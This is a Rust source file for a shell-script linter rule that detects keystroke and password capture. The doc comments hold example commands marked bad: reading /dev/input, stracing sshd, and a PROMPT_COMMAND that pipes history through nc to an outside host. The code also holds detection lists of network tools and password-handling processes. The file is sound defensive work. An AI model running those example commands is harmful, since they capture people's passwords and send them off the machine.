//! CARO0509: what somebody types is recorded.

use crate::rules::acts::{ActKind, FileAct};
use crate::rules::{Check, Level, Sink};
use crate::script::{AssignedValue, Assignment, Command, Word};

rule! {
    /// Records what is typed on this machine, passwords included.
    ///
    /// Nobody who types here knows of it. To find an error in one program, trace that program: `strace ./program`.
    ///
    /// To decide: Whose typing is this, do they know of it, and which one program has to be looked into?
    ///
    /// ```sh bad
    /// cat /dev/input/event3 > keys
    /// ```
    /// ```sh bad
    /// strace -f -p "$(pgrep -o sshd)" -e trace=read
    /// ```
    /// ```sh bad
    /// PROMPT_COMMAND='history 1 | nc example.org 4444'
    /// ```
    /// ```sh good
    /// strace -f -o trace ./program
    /// ```
    /// ```sh good
    /// ls -l /dev/input/
    /// ```
    /// ```sh good
    /// PROMPT_COMMAND='history -a'
    /// tcpdump -i eth0 -w dump.pcap
    /// ```
    "CARO0509" "typing-recorded",
    Danger,
    Check::Several(&[
        Check::Command { programs: &["strace", "ltrace", "gdb", "gcore", "xinput", "logkeys", "evtest", "xev"], run: check },
        Check::File { run: check_file },
        Check::Assignment { run: check_assignment },
    ])
}

/// Programs that people type passwords into.
const ASKING: [&str; 9] =
    ["sshd", "ssh-agent", "login", "gpg-agent", "passwd", "gnome-keyring", "pam", "lsass", "sudo"];

fn check(command: &Command, sink: &mut Sink<'_>) {
    match command.program.as_deref() {
        Some("logkeys") if command.has_flag('s', "start") => {
            sink.report(command.span, "records every key that is pressed".into());
        }
        Some("xinput")
            if command.operands().next().and_then(Word::literal).is_some_and(|it| it.starts_with("test"))
                || command.has_flag('\0', "test-xi2")
                || command.has_flag('\0', "test") =>
        {
            sink.report(command.span, "shows every key that is pressed, in all windows".into()).level(Level::Caution);
        }
        Some("strace" | "ltrace" | "gdb" | "gcore") => {
            let attached = command.flag_value('p', "attach").or(command.flag_value('p', "pid"));
            let words = attached
                .into_iter()
                .chain(command.operands().filter(|_| matches!(command.program.as_deref(), Some("gcore" | "gdb"))));
            // `-p $(pgrep sshd)`: the name stands in the substitution.
            let mut words = words;
            let found = words.find_map(|it| Some((it, ASKING.iter().find(|name| mentions(sink.text(it.span), name))?)));
            if let Some((_, name)) = found {
                sink.report(command.span, format!("reads what goes through `{name}`: passwords and keys"));
            }
        }
        _ => {}
    }
}

fn mentions(text: &str, name: &str) -> bool {
    text.split(|it: char| !it.is_ascii_alphanumeric() && it != '-').any(|it| it == name)
}

fn check_file(act: &FileAct<'_>, sink: &mut Sink<'_>) {
    if act.kind != ActKind::Reads {
        return;
    }
    let program = act.command.and_then(|it| it.program.as_deref()).unwrap_or_default();
    let reads = matches!(
        program,
        "cat" | "dd" | "xxd" | "hexdump" | "od" | "head" | "tail" | "tee" | "nc" | "base64" | "python3" | "cp"
    );
    if reads
        && sink
            .value(act.path)
            .shapes
            .iter()
            .any(|it| it.text.starts_with("/dev/input/event") || it.text.starts_with("/dev/input/by-"))
    {
        sink.report(act.span, "reads every key that is pressed".into());
    }
}

fn check_assignment(assignment: &Assignment, sink: &mut Sink<'_>) {
    if &*assignment.name.text != "PROMPT_COMMAND" {
        return;
    }
    let Some(AssignedValue::Word(word)) = &assignment.value else { return };
    let sends = |it: &str| {
        it.split([' ', ';', '|', '&', '$', '(']).any(|it| matches!(it, "nc" | "ncat" | "curl" | "wget" | "socat"))
            || it.contains("/dev/tcp/")
    };
    if sends(&word.sketch()) || sink.possible(word, sends).is_some() {
        sink.report(assignment.span, "sends something to another machine after every command".into());
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check_marks;

    #[test]
    fn whom_it_watches_decides() {
        check_marks("strace -p $(pidof sshd) -s 9999\n#mark 0 0 31 CARO0509\n");
        check_marks("gcore \"$(pgrep ssh-agent)\"\n#mark 0 0 26 CARO0509\n");
        check_marks("xinput test 9\n#mark 0 0 13 CARO0509\n");
        check_marks("strace -p \"$PID\"\ngdb -p $(pidof nginx)\nxinput list\nstrace sshd -t\n");
    }
}
